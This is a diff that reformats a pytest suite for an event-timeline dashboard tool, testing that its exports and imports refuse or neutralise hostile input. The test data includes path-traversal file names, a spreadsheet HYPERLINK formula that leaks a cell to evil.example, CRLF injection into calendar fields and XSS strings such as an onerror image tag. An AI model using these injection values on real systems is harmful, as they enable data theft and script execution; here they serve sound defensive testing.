@@ -72,14 +72,25 @@ def mode(path: Path) -> int:
 
 # ---- 11. file names made from data -------------------------------------------------------------------------------
 
-HOSTILE_CATEGORIES = ["x/../../../../escaped", "../up", ".hidden", "a/b", "a-b", "/etc/passwd", "C:\\win", "军事",
-                      "Défense"]
+HOSTILE_CATEGORIES = [
+    "x/../../../../escaped",
+    "../up",
+    ".hidden",
+    "a/b",
+    "a-b",
+    "/etc/passwd",
+    "C:\\win",
+    "军事",
+    "Défense",
+]
 
 
 @pytest.fixture
 def hostile_categories(tmp_path) -> Path:
-    files = {f"event-{i}.yaml": f"title: Event {i}\ndate: 2022-02-{10 + i}\ncategory: {json.dumps(c)}\n"
-             for i, c in enumerate(HOSTILE_CATEGORIES)}
+    files = {
+        f"event-{i}.yaml": f"title: Event {i}\ndate: 2022-02-{10 + i}\ncategory: {json.dumps(c)}\n"
+        for i, c in enumerate(HOSTILE_CATEGORIES)
+    }
     folder = folder_of(tmp_path, files)
     assert not load_collection(folder).problems
     return folder
@@ -114,8 +125,19 @@ def test_a_name_that_would_leave_the_folder_is_refused(monkeypatch, tmp_path):
 
     monkeypatch.setattr(naming, "picture_names", lambda stem, labels, fmt: ["../outside.html", "inside.html"])
     out = tmp_path / "out"
-    result = invoke("export", "--events", EVENTS, "--format", "html", "--view", "?category=military",
-                    "--view", "?category=diplomacy", "--out", out)
+    result = invoke(
+        "export",
+        "--events",
+        EVENTS,
+        "--format",
+        "html",
+        "--view",
+        "?category=military",
+        "--view",
+        "?category=diplomacy",
+        "--out",
+        out,
+    )
     assert result.exit_code == 1
     assert "'../outside.html'" in result.stderr and "not a file name inside" in result.stderr
     assert not (tmp_path / "outside.html").exists() and not out.exists()
@@ -123,8 +145,13 @@ def test_a_name_that_would_leave_the_folder_is_refused(monkeypatch, tmp_path):
 
 def test_each_category_with_a_very_long_category_name(tmp_path):
     long = "k" * 5000
-    folder = folder_of(tmp_path, {"a.yaml": f"title: A\ndate: 2022\ncategory: {long}a\n",
-                                  "b.yaml": f"title: B\ndate: 2022\ncategory: {long}b\n"})
+    folder = folder_of(
+        tmp_path,
+        {
+            "a.yaml": f"title: A\ndate: 2022\ncategory: {long}a\n",
+            "b.yaml": f"title: B\ndate: 2022\ncategory: {long}b\n",
+        },
+    )
     out = tmp_path / "out"
     result = invoke("export", "--events", folder, "--format", "html", "--each", "category", "--out", out)
     assert result.exit_code == 0, result.output
@@ -283,14 +310,22 @@ def test_new_never_replaces_a_symlink(tmp_path):
 
 # ---- 13. CSV: no formulas, and it reads back ---------------------------------------------------------------------
 
-FORMULAS = {"title": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "actor": "@SUM(1+1)", "tag": "+cmd",
-            "place": "-2+3", "summary": "=1+1 and more", "quoted": "'=already quoted"}
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "actor": "@SUM(1+1)",
+    "tag": "+cmd",
+    "place": "-2+3",
+    "summary": "=1+1 and more",
+    "quoted": "'=already quoted",
+}
 
 
 @pytest.fixture
 def formula_events(tmp_path) -> Path:
-    return folder_of(tmp_path, {
-        "formula.yaml": f"""
+    return folder_of(
+        tmp_path,
+        {
+            "formula.yaml": f"""
             title: {json.dumps(FORMULAS["title"])}
             date: 2022-02-16
             category: diplomacy
@@ -300,12 +335,14 @@ def formula_events(tmp_path) -> Path:
               - {{name: {json.dumps(FORMULAS["place"])}, lat: -33.5, lon: -70.25}}
             summary: {json.dumps(FORMULAS["summary"])}
             """,
-        "quoted.yaml": f"""
+            "quoted.yaml": f"""
             title: {json.dumps(FORMULAS["quoted"])}
             date: 2022-02-17
             category: "@home"
             """,
-    }, name="formulas")
+        },
+        name="formulas",
+    )
 
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(formula_events):
@@ -330,9 +367,10 @@ def test_csv_export_of_formulas_reads_back_the_same(formula_events, tmp_path):
 
 def test_the_reader_undoes_only_the_escape_it_stands_for(tmp_path):
     table = tmp_path / "t.csv"
-    table.write_text("id,title,date,category\n"
-                     "a,'=x,2022,c\nb,'plain quote,2022,c\nc,''=y,2022,c\nd,'-1,2022,c\ne,x'=y,2022,c\n",
-                     encoding="utf-8")
+    table.write_text(
+        "id,title,date,category\na,'=x,2022,c\nb,'plain quote,2022,c\nc,''=y,2022,c\nd,'-1,2022,c\ne,x'=y,2022,c\n",
+        encoding="utf-8",
+    )
     collection = load_collection(table)
     assert not collection.problems, collection.problems
     titles = dict(zip(collection.events["id"], collection.events["title"], strict=True))
@@ -349,7 +387,8 @@ def assert_same_events(original, copy) -> None:
     assert [s.strip() for s in first["summary"]] == second["summary"].tolist()
     # A table row holds one place: an event at several places comes back as one place naming them all.
     assert ["; ".join(p["name"] for p in places) for places in first["places"]] == [
-        "; ".join(p["name"] for p in places) for places in second["places"]]
+        "; ".join(p["name"] for p in places) for places in second["places"]
+    ]
     single = [i for i, places in enumerate(first["places"]) if len(places) == 1]
     assert [first["places"].iloc[i] for i in single] == [second["places"].iloc[i] for i in single]
     # And one source: the first.
@@ -373,26 +412,30 @@ def test_csv_export_reads_back_as_the_same_events(events, tmp_path):
 
 @pytest.fixture
 def broken_lines(tmp_path) -> Path:
-    return folder_of(tmp_path, {
-        "url.yaml": """
+    return folder_of(
+        tmp_path,
+        {
+            "url.yaml": """
             title: A source with a line break in its address
             date: 2022-02-16
             category: diplomacy
             sources:
               - {title: Report, url: "https://example.org/a\\r\\nATTACH:https://evil.example/x"}
             """,
-        "title.yaml": """
+            "title.yaml": """
             title: "Two\\nlines\\r\\nBEGIN:VEVENT"
             date: 2022-02-17
             category: "diplo\\r\\nmacy"
             places: [{name: "Kyiv\\nLviv"}]
             """,
-        "plain.yaml": """
+            "plain.yaml": """
             title: Plain
             date: 2022-02-18
             category: diplomacy
             """,
-    }, name="broken")
+        },
+        name="broken",
+    )
 
 
 def test_ics_export_sanitises_line_breaks_and_keeps_every_event(broken_lines):
@@ -432,7 +475,10 @@ def test_ics_export_skips_an_event_it_cannot_write_with_a_warning(broken_lines, 
 
 
 def test_timelinejs_escapes_the_group_and_turns_images_into_links(tmp_path):
-    folder = folder_of(tmp_path, {"a.yaml": """
+    folder = folder_of(
+        tmp_path,
+        {
+            "a.yaml": """
         title: Pictures
         date: 2022-02-16
         category: "<img src=x onerror=alert(1)>"
@@ -440,7 +486,9 @@ def test_timelinejs_escapes_the_group_and_turns_images_into_links(tmp_path):
           ![chart](https://tracker.example/pixel.png) and [a script](javascript:alert(1)),
           [a file](file:///etc/passwd), [a page](https://example.org/a?b=1&c=2) and [mail](mailto:a@example.org).
           ![local](/images/x.png) [![inner](https://example.org/i.png)](https://example.org/page)
-        """})
+        """
+        },
+    )
     text = invoke("export", "--events", folder, "--format", "timelinejs").stdout
     [event] = json.loads(text)["events"]
     assert event["group"] == "&lt;img src=x onerror=alert(1)&gt;"
@@ -460,8 +508,9 @@ def test_timelinejs_escapes_the_group_and_turns_images_into_links(tmp_path):
 def test_import_over_long_id_is_a_row_problem_and_the_rest_is_written(tmp_path):
     table = tmp_path / "t.csv"
     long = "x" * 300
-    table.write_text(f"id,title,date,category\none,One,2022,c\n{long},Long,2022,c\nthree,Three,2022,c\n",
-                     encoding="utf-8")
+    table.write_text(
+        f"id,title,date,category\none,One,2022,c\n{long},Long,2022,c\nthree,Three,2022,c\n", encoding="utf-8"
+    )
     out = tmp_path / "out"
     result = invoke("import", table, "--out", out)
     assert result.exit_code == 1
@@ -523,8 +572,9 @@ def test_new_refuses_an_id_that_cannot_be_a_file_name(bad_id, tmp_path):
 
 def test_new_takes_an_id_at_the_limit(tmp_path):
     folder = tmp_path / "events"
-    result = invoke("new", "--events", folder, "--title", "T", "--date", "2022", "--category", "x",
-                    "--id", "z" * ID_MAX)
+    result = invoke(
+        "new", "--events", folder, "--title", "T", "--date", "2022", "--category", "x", "--id", "z" * ID_MAX
+    )
     assert result.exit_code == 0, result.output
     assert (folder / f"{'z' * ID_MAX}.yaml").exists()
 
@@ -533,8 +583,9 @@ def test_csv_export_of_a_lone_carriage_return_reads_back_as_the_same_event(tmp_p
     from dashboard.records import to_csv
     from dashboard.store import load_collection
 
-    (tmp_path / "cr.yaml").write_text('title: plain\ndate: 2022-02-16\ncategory: x\nsummary: "a\\rb"\n',
-                                      encoding="utf-8")
+    (tmp_path / "cr.yaml").write_text(
+        'title: plain\ndate: 2022-02-16\ncategory: x\nsummary: "a\\rb"\n', encoding="utf-8"
+    )
     table = tmp_path / "out" / "events.csv"
     table.parent.mkdir()
     table.write_text(to_csv(load_collection(tmp_path).events), encoding="utf-8", newline="")
